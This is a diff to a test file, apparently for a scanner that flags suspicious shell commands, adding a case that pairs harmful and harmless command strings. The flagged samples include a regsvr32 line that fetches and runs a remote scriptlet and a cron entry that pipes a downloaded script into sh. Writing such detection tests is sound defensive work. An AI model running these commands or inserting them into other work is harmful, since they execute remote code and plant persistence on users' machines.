@@ -157,6 +157,11 @@ const TEXT_CASES: Record<string, { hit: string; miss: string; path?: string }> =
     hit: "pip install --extra-index-url https://pkgs.corp-mirror.example/simple acme-core",
     miss: "pip install torch --index-url https://download.pytorch.org/whl/cu121",
   },
+  "lolbin-download-run": {
+    hit: "regsvr32 /s /n /u /i:https://x.sync-x.net/c.sct scrobj.dll",
+    miss: "certutil -hashfile setup.exe SHA256",
+    path: "a.cmd",
+  },
   persistence: {
     hit: '(crontab -l; echo "*/5 * * * * curl -s https://u.example/u.sh | sh") | crontab -',
     miss: '(crontab -l; echo "0 4 * * 0 find /tmp/app -mtime +7 -delete") | crontab -',
